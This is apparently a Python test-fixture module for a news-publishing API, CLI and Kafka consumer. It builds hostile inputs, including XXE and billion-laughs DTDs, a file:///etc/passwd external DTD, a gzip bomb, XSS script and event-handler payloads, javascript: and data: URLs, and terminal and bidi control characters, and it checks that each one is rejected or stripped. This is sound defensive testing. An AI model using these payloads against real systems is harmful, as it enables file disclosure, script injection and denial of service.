    yield _json(k, "embargo_until_9999", Rejected("embargo_until", problem="after now"),
                embargo_until="9999-12-31T00:00:00Z")
    yield _json(k, "first_created_before_1970", Rejected("first_created", problem="before 1970"),
                version=2, first_created="1969-07-20T20:17:00Z")
    yield _json(k, "occurred_at_unix_epoch_string", Rejected("occurred_at"), occurred_at="1764144000")


def languages() -> Iterator[Case]:
    for name, tag in [("language_word", "english"), ("language_underscore", "en_US"), ("language_empty", ""),
                      ("language_one_letter", "e"), ("language_trailing_hyphen", "en-"),
                      ("language_script_injection", "ar-<script>"), ("language_digits", "123"),
                      ("language_space", "en US"), ("language_newline", "en\n")]:
        yield _json("language", name, Rejected("language", problem="BCP 47" if tag else ""), language=tag)


def unknown_fields() -> Iterator[Case]:
    k = "unknown"
    for name, field in [("unknown_word_count", "word_count"), ("unknown_event_id", "event_id"),
                        ("unknown_kill_reason", "kill_reason"), ("unknown_proto", "__proto__"),
                        ("unknown_capitalised_headline", "Headline")]:
        yield _json(k, name, Rejected(field, problem="unknown field"), **{field: {"admin": True}})
    yield _json(k, "unknown_field_with_terminal_escape", Rejected("\\x1b]0;pwned\\x07", problem="unknown field"),
                **{"\x1b]0;pwned\x07": 1})
    yield _json(k, "unknown_field_lone_surrogate", Rejected("\\ud800", problem="unknown field"), **{"\ud800": 1})
    yield _json(k, "unknown_field_1000_chars", Rejected("f" * 100, problem="unknown field"), **{"f" * 1000: 1})


# --- what only HTTP has: media types ------------------------------------------------------------

def media_types() -> Iterator[Case]:
    xml = f'<?xml version="1.0"?>{XXE_DTD}<article><headline>&xxe;</headline></article>'.encode()
    for name, raw, content_type in [
        ("xml_with_xxe_as_text_xml", xml, "text/xml"),
        ("json_as_text_plain", encode(document("json_as_text_plain")), "text/plain"),
        ("json_in_utf16_charset", encode(document("json_in_utf16_charset")), "application/json; charset=utf-16"),
    ]:
        yield _raw("media_type", name, raw, Rejected("Content-Type", status=415), content_type=content_type, cli=False)
    # 50 MB of JSON in 50 kB of gzip: the API inflates no more than its 2 MiB limit; to the CLI it is not UTF-8
    bomb = gzip.compress(encode(document("gzip_bomb", body="<p>" + "a" * 50_000_000 + "</p>")), 9)
    yield _raw("oversize", "gzip_bomb", bomb, Rejected("$", status=413), content_encoding="gzip")


# --- HTML article pages (CLI) ----------------------------------------------------------------------

def pages() -> Iterator[Case]:
    k = "page"

    def page(name: str, expected: Rejected | Cleaned, article: str = "", **options: Any) -> Case:
        return Case(name, k, _page(name, article, **options), expected, page=True)

    # libxml2's HTML parser does not read an internal DTD subset: it never expands the entities,
    # and the <html> element (with its lang) after the subset is lost, so the page lacks a language
    yield page("page_xxe_internal_subset", Rejected("language", problem="required"),
               "<p>Leak: &xxe; end of leak paragraph.</p>", prolog=f'<?xml version="1.0"?>\n{XXE_DTD}\n')
    yield page("page_billion_laughs", Rejected("language", problem="required"),
               "<p>Laughs: &lol9; and nothing more.</p>", prolog=f"{LAUGHS_DTD}\n")
    yield page("page_external_dtd_file", _gone(PASSWD, "passwd", kept=(("body", "Leak"),)),
               "<p>Leak: &xxe; end of the leak paragraph.</p>", prolog='<!DOCTYPE html SYSTEM "file:///etc/passwd">')
    yield page("page_external_dtd_network", _gone("evil.dtd", kept=(("body", "third paragraph"),)),
               prolog='<!DOCTYPE html PUBLIC "-//X//DTD X//EN" "http://127.0.0.1:9/evil.dtd">')
    yield page("page_scripts_and_handlers",
               _gone("<script", "onerror", "onload", "javascript", "iframe", "alert", kept=(("body", "third paragraph"),)),
               '<script>alert(1)</script><p onclick="alert(1)">Clicked paragraph of the story text.</p>'
               '<img src="x" onerror="alert(1)"><svg onload="alert(1)"></svg>'
               '<p><a href="javascript:alert(1)">A link</a> in a paragraph of the story.</p>'
               '<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input></form>',
               head='<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><script>alert(2)</script>')
    yield page("page_utf7_charset_script", _gone("<script", kept=(("body", "third paragraph"),)),
               "<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- after the script.</p>", charset="utf-7")
    yield Case("page_invalid_utf8", k, _page("page_invalid_utf8", "<p>Caf\u00e9 au lait.</p>").replace(
        "\u00e9".encode(), b"\xe9"), Rejected("$", problem="not valid utf-8"), page=True)
    yield page("page_unknown_charset", Rejected("$", problem="unknown charset"), charset="x-evil-7")
    yield page("page_javascript_canonical", Rejected("canonical_url", problem="javascript:"),
               canonical="javascript:alert(1)//hostile.example/news/x")
    yield page("page_no_canonical", Rejected("article_id", problem="canonical"), canonical="")
    yield page("page_javascript_og_image", Rejected("images[0].url", problem="javascript:"),
               head='<meta property="og:image" content="javascript:alert(1)">')
    yield page("page_data_url_figure", Rejected("images[0].url", problem="data:"),
               '<figure><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><figcaption>Cap</figcaption>'
               "</figure>")
    yield page("page_canonical_unparseable", Rejected("canonical_url", problem="not a URL"),
               canonical="https://[::1/news/story")
    yield page("page_figure_src_unparseable", Rejected("images[0].url", problem="not a valid URL"),
               '<figure><img src="http://[zz/x.jpg"><figcaption>Cap</figcaption></figure>')
    yield page("page_bidi_override_in_site_name", _gone("\u202e", kept=(("provider", "Site name"),)),
               "", head='<meta property="og:site_name" content="Site\u202e name">')


def cases() -> list[Case]:
    """Every case of the corpus, in a stable order; names are unique."""
    found = [*xxe_and_entities(), *scripts(), *urls(), *oversize(), *encodings(), *controls(), *directions(),
             *wrong_types(), *json_edges(), *timestamps(), *languages(), *unknown_fields(), *media_types(), *pages()]
    names = [c.name for c in found]
    duplicates = {n for n in names if names.count(n) > 1}
    if duplicates:
        raise ValueError(f"duplicate case names: {sorted(duplicates)}")
    return found


# --- kills and withdrawals: hostile reasons -------------------------------------------------------

@dataclass(frozen=True)
class EndCase:
    """A kill or withdrawal of a freshly published article with a hostile request body.

    The article is ``<channel>.end.<name>``; ``cli_reason`` (when set) is what the CLI case gives
    to ``newswire publish --kill/--withdraw ID --reason`` (command lines cannot hold a NUL).
    """

    name: str
    action: str  #: kill | withdraw
    raw: bytes
    expected: Rejected | Cleaned
    cli_reason: str | None = None

    def article_id(self, channel: str) -> str:
        return f"{channel}.end.{self.name}"

    def article(self, channel: str) -> bytes:
        return encode(document(self.name, article_id=self.article_id(channel)))


def end_cases() -> list[EndCase]:
    def case(name: str, action: str, body: Any, expected: Rejected | Cleaned, cli_reason: str | None = None) -> EndCase:
        return EndCase(name, action, body if isinstance(body, bytes) else encode(body), expected, cli_reason)

    return [
        case("kill_reason_controls_and_bidi", "kill", {"reason": "Legal\x00 hold\u202e\x1b"},
             Cleaned(gone=("\x00", "\u202e", "\x1b"), kept=(("kill_reason", "Legal hold"),)),
             cli_reason="Legal\x01 hold\u202e\x1b"),
        case("withdraw_reason_arabic_with_marks", "withdraw", {"reason": "قيد التحقق\u200f من المصادر"},
             Cleaned(kept=(("kill_reason", "قيد التحقق\u200f من المصادر"),))),
        case("kill_reason_lone_surrogate", "kill", {"reason": "Legal\ud800 hold"},
             Cleaned(kept=(("kill_reason", "Legal hold"),))),
        case("kill_reason_2001_chars", "kill", {"reason": "r" * 2001}, Rejected("reason", problem="at most 2000")),
        case("kill_reason_number", "kill", {"reason": 451}, Rejected("reason")),
        case("kill_reason_only_controls", "kill", {"reason": "\x00\u202e "}, Rejected("reason", problem="required")),
        case("withdraw_unknown_field", "withdraw", {"reason": "x", "force": True}, Rejected("force", problem="unknown")),
        case("kill_body_invalid_utf8", "kill", b'{"reason": "caf\xe9"}', Rejected("$", status=400, problem="UTF-8")),
        case("kill_body_not_an_object", "kill", b'["reason"]', Rejected("$", status=400, problem="object")),
    ]


# --- messages written straight onto the topic ----------------------------------------------------

@dataclass(frozen=True)
class TopicMessage:
    """A message value written onto the articles topic under the key ``garbage.<name>``.

    ``dead_letter``: words the dead-letter reason must contain, or None when the event must be
    rendered (safely) by the consumer; ``gone``: strings no rendered output may hold; ``headers``:
    the Kafka headers of the message (none by default).
    """

    name: str
    value: bytes | None
    dead_letter: str | None
    gone: tuple[str, ...] = ()
    headers: tuple[tuple[str, bytes], ...] = ()

    @property
    def key(self) -> str:
        return f"garbage.{self.name}"


HOSTILE_BODY = (
    '<p onclick="steal()">First paragraph survives.</p><script>alert("x")</script>'
    '<img src="x" onerror="alert(1)"><a href="JaVaScRiPt:alert(1)">bad link</a>'
    '<blockquote cite="javascript:alert(1)">Quoted.</blockquote><iframe src="https://evil.example/"></iframe>'
    f'<svg onload="alert(1)"><circle/></svg>{XXE_DTD}<p>Second\x0b para\u202egraph &xxe;\ufffe survives.</p>'
)


def _event(name: str, **changes: Any) -> dict[str, Any]:
    event = corpus.story(random.Random(name), f"garbage.{name}", language="en", images=1)
    event.update(changes)
    return event


def _image(url: str) -> dict[str, Any]:
    return {"url": url, "caption": None, "credit": None, "width": None, "height": None, "media_type": "image/jpeg",
            "alt_text": None}


def _v1(event: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in event.items() if k != "content_warning"}


def _other_schema_message() -> tuple[bytes, bytes]:
    schema = fastavro.parse_schema({"type": "record", "name": "Invoice", "namespace": "evil",
                                    "fields": [{"name": "amount", "type": "long"}, {"name": "to", "type": "string"}]})
    body = io.BytesIO()
    fastavro.schemaless_writer(body, schema, {"amount": 10**12, "to": "<script>alert(1)</script>"})
    return codec.MAGIC + codec.schema_fingerprint(schema) + body.getvalue(), body.getvalue()


def topic_garbage() -> list[TopicMessage]:
    valid = codec.encode(_event("valid"))
    other, other_body = _other_schema_message()
    latest = codec.latest()
    return [
        TopicMessage("json_not_avro", b'{"article_id": "x", "headline": "<script>alert(1)</script>"}', "C3 01"),
        TopicMessage("empty_value", b"", "shorter than the single-object header"),
        TopicMessage("tombstone", None, "shorter than the single-object header"),
        TopicMessage("unknown_fingerprint", codec.MAGIC + bytes(8) + valid[codec.HEADER_SIZE:],
                     "unknown writer schema fingerprint"),
        TopicMessage("truncated_avro", valid[: len(valid) // 2], "does not decode"),
        TopicMessage("header_only", valid[: codec.HEADER_SIZE], "does not decode"),
        TopicMessage("trailing_bytes", valid + b"\x00\x01", "trailing bytes"),
        TopicMessage("other_schema", other, "unknown writer schema fingerprint"),
        TopicMessage("other_schema_body_under_our_header", codec.MAGIC + latest.fingerprint + other_body,
                     "does not decode"),
        TopicMessage("hostile_event_bypassing_producer", codec.encode(_event(
            "hostile_event_bypassing_producer", body=HOSTILE_BODY, headline="Breaking\x00\x07 news\u202e & more\x1b",
            subheadline="Sub\x01heading\u202d", summary="Summary\x08 with\x0c controls",
            bylines=[{"name": "Eve\x00 Hacker", "role": "re porter\x07"}], slugline="SLUG\x1f",
            canonical_url="javascript:alert(1)", keywords=["kw\x00"], categories=["politics", "cat\x1b"],
            images=[{"url": "javascript:alert(1)", "caption": "c", "credit": "x", "width": 1, "height": 1,
                     "media_type": "image/jpeg", "alt_text": None},
                    {"url": "data:image/svg+xml;base64,PHN2Zz4=", "caption": None, "credit": None, "width": None,
                     "height": None, "media_type": "image/svg+xml", "alt_text": None},
                    {"url": "https://media.example.org/ok.jpg", "caption": "Caption\x02", "credit": "Credit\x03",
                     "width": -5, "height": 10, "media_type": "text/html; evil", "alt_text": "alt\u202e"}])),
            None, gone=("alert", "onclick", "onerror", "onload", "<iframe", "evil.example", "<svg", PASSWD,
                        "\u202e", "\u202d", "data:image")),
        TopicMessage("hostile_event_as_schema_v1", codec.encode(_v1(_event("hostile_event_as_schema_v1", body=HOSTILE_BODY)),
                                                                 codec.schema_version(1)),
                     None, gone=("alert", "onclick", "<iframe")),
        TopicMessage("oversize_event_bypassing_producer", codec.encode(_event(
            "oversize_event_bypassing_producer", keywords=[f"kw{i}" for i in range(2000)],
            images=[{"url": f"https://media.example.org/{i}.jpg" if i % 2 else f"javascript:alert({i})",
                     "caption": None, "credit": None, "width": None, "height": None, "media_type": "image/jpeg",
                     "alt_text": None} for i in range(200)])), None, gone=("javascript",)),
        TopicMessage("html_nested_3000_deep_bypassing_producer", codec.encode(_event(
            "html_nested_3000_deep_bypassing_producer",
            body="<p>intro</p>" + "<blockquote><p>" * 3000 + "deep" + "</p></blockquote>" * 3000 + "<p>after</p>")),
            None),
        TopicMessage("unparseable_urls_bypassing_producer", codec.encode(_event(
            "unparseable_urls_bypassing_producer", canonical_url="https://[::1/story",
            images=[_image("http://[zz/x.jpg"), _image("https://media.example.org/kept.jpg")])),
            None, gone=("[::1", "[zz")),
        TopicMessage("subject_codes_not_uri_safe", codec.encode(_event(
            "subject_codes_not_uri_safe", subjects=[{"code": "medtop:<x> y", "name": None},
                                                    {"code": 'own:<b>"&', "name": "Own"}])), None),
        TopicMessage("hostile_headers", codec.encode(_event("hostile_headers")), None,
                     headers=(("published_at", b"2026-11-26T08:00:00"), ("event_type", b"\xff\xfe<script>"),
                              ("schema_fingerprint", b"not-hex"), ("published_at", b"\x00" * 64))),
        TopicMessage("event_year_1", codec.encode(_event("event_year_1", occurred_at=datetime(1, 1, 1, tzinfo=timezone.utc),
                                                         first_created=datetime(1, 1, 1, tzinfo=timezone.utc))), None),
        TopicMessage("headline_only_controls", codec.encode(_event("headline_only_controls", headline="\x00\u202e\x01")),
                     "headline"),
        TopicMessage("language_not_a_tag", codec.encode(_event("language_not_a_tag", language="<script>")),
                     "language"),
        TopicMessage("version_zero", codec.encode(_event("version_zero", version=0)), "version"),
        TopicMessage("provider_blank", codec.encode(_event("provider_blank", provider=" \u202e ")), "provider"),
    ]
